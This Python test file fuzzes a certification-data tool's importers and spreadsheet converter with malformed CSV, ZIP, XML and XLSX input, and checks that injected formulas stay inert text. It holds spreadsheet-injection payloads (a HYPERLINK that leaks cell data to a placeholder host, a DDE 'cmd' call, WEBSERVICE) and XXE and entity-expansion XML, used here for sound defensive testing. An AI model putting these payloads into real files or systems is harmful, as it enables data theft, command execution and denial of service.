"""Bad input, systematically (hypothesis): every importer and the spreadsheet converter end in a
clean import or one clear InputError naming the file (and row or cell) — never another exception,
never a half-written store; formula-looking cells are never evaluated and never leave as formulas.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from reliability import answers, live, record
from stores import built_store

from cqpi_graph.cells import looks_like_formula
from cqpi_graph.errors import InputError
from cqpi_graph.importers import import_bcn, import_kit, import_rncp, import_rome
from cqpi_graph.importers.guard import allow_shrink
from cqpi_graph.store import open_store, store_writer
from cqpi_graph.validate import validate_referentiel
from cqpi_graph.validate.spreadsheet import convert_spreadsheet, write_template

pytestmark = pytest.mark.reliability

ROOT = Path(__file__).resolve().parent.parent
VALID_CSV = ROOT / "tests" / "data" / "referentiels" / "valid.csv"
SETTINGS = settings(
    max_examples=int(os.environ.get("CQPI_FUZZ_EXAMPLES", "25")),
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# ---------------------------------------------------------------- what bad cells look like

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Cliquez ici")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    '=WEBSERVICE("http://127.0.0.1:9/")',
    "＝1+1",
]
CONTROL = "".join(chr(c) for c in range(0, 32)) + "\x7f\u2028\u2029\ufeff\u202e"
text_cells = st.text(
    alphabet=st.one_of(
        st.sampled_from(CONTROL + ";,\"'\\<>&=+-@#[]"),
        st.characters(codec="utf-8", exclude_categories=("Cs",)),
    ),
    max_size=40,
)
cells = st.one_of(
    text_cells,
    st.sampled_from(FORMULAS),
    st.sampled_from(["", " ", "NR", "31/02/2030", "99/99/9999", "RNCP", "RNCP12x", "NIV12", "0", "-1"]),
    st.integers(min_value=1, max_value=3).map(lambda n: "x" * (n * 60_000)),  # huge fields
)
ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"]


def render_csv(header: list[str], rows: list[list[str]], delimiter: str, quoting: int) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, quoting=quoting, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


@st.composite
def csv_bytes(draw: st.DrawFn, header: list[str], sample: list[str]) -> bytes:
    """A CSV with the given header: rows from a real row, mutated, truncated or extended."""
    rows = []
    for _ in range(draw(st.integers(0, 4))):
        row = list(sample)
        for i in draw(st.lists(st.integers(0, len(row) - 1), max_size=4)):
            row[i] = draw(cells)
        cut = draw(st.one_of(st.none(), st.integers(0, len(row) + 2)))
        if cut is not None:  # truncated rows, or extra cells
            row = row[:cut] if cut <= len(row) else row + ["en trop"] * (cut - len(row))
        rows.append(row)
    delimiter = draw(st.sampled_from([";", ";", ",", "\t"]))
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONE]))
    try:
        text = render_csv(header, rows, delimiter, quoting)
    except csv.Error:  # QUOTE_NONE with a delimiter inside a cell: write it raw
        text = "\r\n".join(delimiter.join([*[h for h in header]]) for _ in [0])
        text += "".join("\r\n" + delimiter.join(r) for r in rows)
    data = text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    how = draw(st.sampled_from(["as is", "as is", "as is", "truncated", "random bytes", "bytes inserted"]))
    if how == "truncated":
        data = data[: draw(st.integers(0, len(data)))]
    elif how == "random bytes":
        data = draw(st.binary(max_size=300))
    elif how == "bytes inserted":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=20)) + data[at:]
    return data


def read_header_and_row(path: Path, encoding: str, delimiter: str = ";") -> tuple[list[str], list[str]]:
    with open(path, encoding=encoding, newline="") as fh:
        reader = csv.reader(fh, delimiter=delimiter)
        return next(reader), next(reader)


# ---------------------------------------------------------------- the store every example writes to


store = built_store()


def attempt(store: Path, importer, path: Path) -> str:  # noqa: ANN001
    """Run one import; check the store afterwards. Returns "error" or "imported"."""
    before_gen, before = live(store), answers(store)
    record("bad inputs tried (importers)")
    record("tracebacks on bad input", 0)  # any other exception fails the test
    try:
        # The shrink guard (tested in test_reliability_shrink.py) would refuse most examples once
        # one of them is in: allowed here, so that every example goes through the whole import.
        with allow_shrink(), store_writer(store) as s:
            report = importer(s, path)
    except InputError as exc:
        # A clear message: names the file, and the live store is the one from before.
        assert exc.file, f"InputError without a file: {exc}"
        assert live(store) == before_gen and answers(store) == before
        record("bad inputs ended in a clear error (store unchanged)")
        return "error"
    # A clean import: the new generation is live, opens, and holds the source's provenance.
    with open_store(store) as s:
        assert s.count() > 0
        assert report.skipped or s.ask(
            f"ASK {{ GRAPH <https://w3id.org/cqpi/graph/meta> {{ <{report.graph}> ?p ?o }} }}"
        )
    record("bad inputs imported cleanly (row errors reported)")
    return "imported"


# ---------------------------------------------------------------- the importers


@pytest.fixture(scope="module")
def rncp_sample(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    with zipfile.ZipFile(shared_data / "rncp" / "export-fiches-csv-2024-02-22.zip") as zf:
        return {n: zf.read(n) for n in zf.namelist()}


@SETTINGS
@given(data=st.data())
def test_rncp_zip_bad_input(
    data: st.DataObject, store: Path, rncp_sample: dict[str, bytes], tmp_path_factory
) -> None:  # noqa: ANN001
    work = tmp_path_factory.mktemp("rncp")
    members = dict(rncp_sample)
    name = data.draw(st.sampled_from(sorted(members)))
    text = members[name].decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text), delimiter=";")
    header, sample = next(reader), next(reader, None) or []
    assume(sample)
    members[name] = data.draw(csv_bytes(header, sample))
    if data.draw(st.booleans()):
        members.pop(data.draw(st.sampled_from(sorted(members))), None)
    z = work / "export-fiches-csv-2024-03-01.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for n, b in members.items():
            zf.writestr(n, b)
    if data.draw(st.integers(0, 5)) == 0:  # the archive itself cut or scrambled
        raw = z.read_bytes()
        z.write_bytes(raw[: data.draw(st.integers(0, len(raw)))])
    attempt(store, import_rncp, z)


XML_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<FICHES><VERSION_FLUX>4.1</VERSION_FLUX>'


@SETTINGS
@given(data=st.data())
def test_rncp_xml_bad_input(data: st.DataObject, store: Path, shared_data: Path, tmp_path_factory) -> None:  # noqa: ANN001
    from xml.sax.saxutils import escape

    work = tmp_path_factory.mktemp("xml")
    real = (shared_data / "rncp" / "export-fiches-rncp-v4-1-extract.xml").read_bytes()
    start = real.index(b"<FICHE>")
    fiche = real[start : real.index(b"</FICHE>") + len(b"</FICHE>")].decode("utf-8")
    for tag in data.draw(
        st.lists(
            st.sampled_from(
                ["INTITULE", "NUMERO_FICHE", "CODE", "LIBELLE", "DATE_FIN_ENREGISTREMENT", "ID_FICHE"]
            ),
            max_size=4,
        )
    ):
        value = data.draw(cells)
        value = escape(value) if data.draw(st.booleans()) else value  # sometimes not escaped: bad XML
        i = fiche.find(f"<{tag}>")
        if i >= 0:
            j = fiche.find(f"</{tag}>", i)
            fiche = fiche[: i + len(tag) + 2] + value + fiche[j:]
    doc = (
        XML_HEAD + fiche.encode("utf-8", errors="surrogatepass") * data.draw(st.integers(1, 3)) + b"</FICHES>"
    )
    how = data.draw(st.sampled_from(["as is", "as is", "truncated", "entities", "random bytes"]))
    if how == "truncated":
        doc = doc[: data.draw(st.integers(0, len(doc)))]
    elif how == "entities":  # external entity and entity expansion
        doc = doc.replace(
            b"<FICHES>",
            b'<!DOCTYPE FICHES [<!ENTITY x SYSTEM "http://127.0.0.1:9/x"><!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
            b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
            b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><FICHES>',
            1,
        ).replace(b"<INTITULE>", b"<INTITULE>&x;&e;&e;&e;&e;&e;&e;&e;&e;", 1)
    elif how == "random bytes":
        doc = b"<?xml" + data.draw(st.binary(max_size=300))
    f = work / "flux.xml"
    f.write_bytes(doc)
    attempt(store, import_rncp, f)


def attempt_csv(data: st.DataObject, store: Path, importer, real: Path, encoding: str, work: Path) -> None:  # noqa: ANN001
    """Draw a damaged copy of the real CSV `real` (its header, one row) and import it."""
    header, sample = read_header_and_row(real, encoding)
    f = work / real.name
    f.write_bytes(data.draw(csv_bytes(header, sample)))
    attempt(store, importer, f)


@SETTINGS
@given(data=st.data())
def test_bcn_bad_input(data: st.DataObject, store: Path, shared_data: Path, tmp_path_factory) -> None:  # noqa: ANN001
    real = shared_data / "bcn" / "N_FORMATION_DIPLOME.csv"
    attempt_csv(data, store, import_bcn, real, "latin-1", tmp_path_factory.mktemp("bcn"))


@SETTINGS
@given(data=st.data())
def test_kit_bad_input(data: st.DataObject, store: Path, shared_data: Path, tmp_path_factory) -> None:  # noqa: ANN001
    real = shared_data / "kit" / "kit-apprentissage-rncp-v3.0.csv"
    attempt_csv(data, store, import_kit, real, "utf-8-sig", tmp_path_factory.mktemp("kit"))


@pytest.fixture(scope="module")
def rome_small(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    dest = tmp_path_factory.mktemp("rome-small")
    for f in (shared_data / "rome").glob("unix_*_utf8.csv"):
        with open(f, encoding="utf-8") as src:
            lines = [line for _, line in zip(range(40), src, strict=False)]
        (dest / f.name).write_text("".join(lines), encoding="utf-8")
    return dest


@SETTINGS
@given(data=st.data())
def test_rome_bad_input(data: st.DataObject, store: Path, rome_small: Path, tmp_path_factory) -> None:  # noqa: ANN001
    folder = tmp_path_factory.mktemp("rome")
    for f in rome_small.iterdir():
        shutil.copy(f, folder / f.name)
    victim = folder / data.draw(st.sampled_from(sorted(p.name for p in folder.iterdir())))
    header, sample = read_header_and_row(victim, "utf-8", delimiter=",")
    victim.write_bytes(data.draw(csv_bytes(header, sample)))
    attempt(store, import_rome, folder)


def test_cli_bad_input_is_one_line_and_exit_2(store: Path, tmp_path: Path) -> None:
    """Through the command line: exit code 2, one clear line naming the file, no traceback."""
    cases = [
        ("rncp", "export.zip", b"PK\x03\x04" + b"\x00" * 40),
        ("bcn", "N_FORMATION_DIPLOME.csv", "\ufeff".encode("utf-16")),
        ("kit", "kit.csv", b""),
        # a UTF-8 BOM, then bytes that are not UTF-8 in the header (was a traceback)
        ("kit", "kit-bom.csv", b"\xef\xbb\xbf\x80Code Dipl\xf4me;FicheRNCP\r\n1;RNCP1\r\n"),
        ("rome", "rome", None),
    ]
    for source, name, content in cases:
        path = tmp_path / name
        if content is None:
            path.mkdir()
        else:
            path.write_bytes(content)
        before = live(store)
        proc = subprocess.run(
            [sys.executable, "-m", "cqpi_graph", "--store", str(store), "import", source, str(path)],
            capture_output=True,
            text=True,
            env=dict(os.environ, PYTHONPATH=str(ROOT)),
        )
        record("bad inputs tried (importers)")
        assert proc.returncode == 2, (source, proc.stderr)
        assert "Traceback" not in proc.stderr and name in proc.stderr
        assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
        assert live(store) == before
        record("bad inputs ended in a clear error (store unchanged)")


# ---------------------------------------------------------------- the spreadsheet converter


def valid_rows() -> list[list[str]]:
    with open(VALID_CSV, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def check_report_is_inert(path: Path) -> None:
    """The report of what converted: its CSV carries no cell a spreadsheet would run."""
    report = validate_referentiel([path])
    for row in csv.reader(io.StringIO(report.render("csv"))):
        for cell in row:
            assert not looks_like_formula(cell), cell
    assert "<script" not in report.render("html").lower()


@SETTINGS
@given(data=st.data())
def test_spreadsheet_csv_bad_input(data: st.DataObject, tmp_path_factory) -> None:  # noqa: ANN001
    rows = valid_rows()
    for _ in range(data.draw(st.integers(1, 6))):
        r = data.draw(st.integers(0, len(rows) - 1))
        if rows[r] and not rows[r][0].startswith(("#", "[")):
            c = data.draw(st.integers(0, max(0, len(rows[r]) - 1)))
            rows[r][c] = data.draw(cells)
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    raw = buf.getvalue().encode(data.draw(st.sampled_from(ENCODINGS)), errors="replace")
    if data.draw(st.integers(0, 4)) == 0:
        raw = raw[: data.draw(st.integers(0, len(raw)))]
    f = tmp_path_factory.mktemp("sheet") / "referentiel.csv"
    f.write_bytes(raw)
    record("bad inputs tried (spreadsheet converter)")
    try:
        g = convert_spreadsheet(f)
    except InputError as exc:
        assert exc.file and str(f) in str(exc)
        record("bad inputs ended in a clear error (spreadsheet)")
        return
    # Formula-looking cells are text in the graph, exactly as written (never evaluated).
    written = {c.strip() for row in rows for c in row}
    for o in g.objects():
        if isinstance(o, str) and looks_like_formula(str(o)):
            assert str(o) in written or any(str(o) in c for c in written)
    check_report_is_inert(f)
    record("bad inputs converted cleanly (spreadsheet)")


WRONG_TYPES = st.one_of(
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(),
    st.datetimes(),
    st.times(),
)


@SETTINGS
@given(data=st.data())
def test_spreadsheet_xlsx_bad_input(data: st.DataObject, tmp_path_factory) -> None:  # noqa: ANN001
    from openpyxl import load_workbook

    work = tmp_path_factory.mktemp("xlsx")
    template = write_template(work / "modele.xlsx")
    wb = load_workbook(template)
    filled = {}
    # Fill the template from the valid CSV, then put bad cells (text, formulas, wrong types) in.
    section = None
    for row in valid_rows():
        if row and row[0].startswith("["):
            section = row[0].strip("[]")
            filled[section] = []
            continue
        if section and row and not row[0].startswith("#"):
            filled[section].append(row)
    for title, rows in filled.items():
        ws = wb[title]
        ws.delete_rows(1, ws.max_row)
        for row in rows:
            ws.append(row)
        for _ in range(data.draw(st.integers(1, 5))):
            r = data.draw(st.integers(1, len(rows)))
            c = data.draw(st.integers(1, 8))
            value = data.draw(st.one_of(cells, WRONG_TYPES))
            if isinstance(value, str):  # openpyxl refuses control characters in cells
                value = "".join(ch for ch in value if ch in "\t\n\r" or ord(ch) >= 32)
                if len(value) > 32_767:
                    value = value[:32_767]
            ws.cell(r, c).value = value
    f = work / "referentiel.xlsx"
    wb.save(f)
    if data.draw(st.integers(0, 5)) == 0:
        raw = f.read_bytes()
        f.write_bytes(raw[: data.draw(st.integers(0, len(raw)))])
    record("bad inputs tried (spreadsheet converter)")
    try:
        convert_spreadsheet(f)
    except InputError as exc:
        assert exc.file
        record("bad inputs ended in a clear error (spreadsheet)")
        return
    check_report_is_inert(f)
    record("bad inputs converted cleanly (spreadsheet)")


def section_rows(rows: list[list[str]], name: str) -> Iterator[list[str]]:
    """The rows of section [name] of a template CSV, its comment rows left out."""
    section = None
    for row in rows:
        if row and row[0].startswith("["):
            section = row[0].strip("[]")
            continue
        if section == name and row and not row[0].startswith("#"):
            yield row


def test_formulas_are_text_in_the_graph_and_inert_in_every_export(tmp_path: Path) -> None:
    """=HYPERLINK(…) in a label: kept as text (never evaluated, not even Excel's cached value),
    and written with the apostrophe mark in the CSV report and as text in XLSX templates."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://127.0.0.1:9/?x="&B3,"Cliquez")'
    rows = valid_rows()
    for row in rows:
        if row and row[0] in ("Intitulé", "Code RNCP"):
            row[1] = formula
    f = tmp_path / "referentiel.csv"
    with open(f, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    g = convert_spreadsheet(f)
    assert formula in {str(o) for o in g.objects()}
    # The malformed RNCP code is reported with its value: the cell leaves with the text mark.
    report = validate_referentiel([f])
    exported = [c for row in csv.reader(io.StringIO(report.render("csv"))) for c in row]
    assert "'" + formula in exported and formula not in exported
    assert not any(looks_like_formula(c) for c in exported)
    # The same label from an XLSX whose cell is a real formula with a cached result.
    wb = load_workbook(write_template(tmp_path / "t.xlsx"))
    ws = wb["Certification"]
    ws.delete_rows(1, ws.max_row)
    for row in section_rows(rows, "Certification"):
        ws.append(row)
    comps = wb["Compétences"]
    comps.delete_rows(1, comps.max_row)
    for row in section_rows(rows, "Compétences"):
        comps.append(row)
    x = tmp_path / "referentiel.xlsx"
    wb.save(x)
    g = convert_spreadsheet(x)
    assert formula in {str(o) for o in g.objects()}, "the formula cell was not read as its text"
    # The templates never carry a formula.
    for fmt in ("csv", "xlsx"):
        t = write_template(tmp_path / f"modele.{fmt}")
        if fmt == "csv":
            with open(t, encoding="utf-8") as fh:
                for row in csv.reader(fh):
                    assert not any(looks_like_formula(c) for c in row)
        else:
            for sheet in load_workbook(t).worksheets:
                for row in sheet.iter_rows():
                    assert not any(c.data_type == "f" for c in row)
    record("formula cells checked inert")
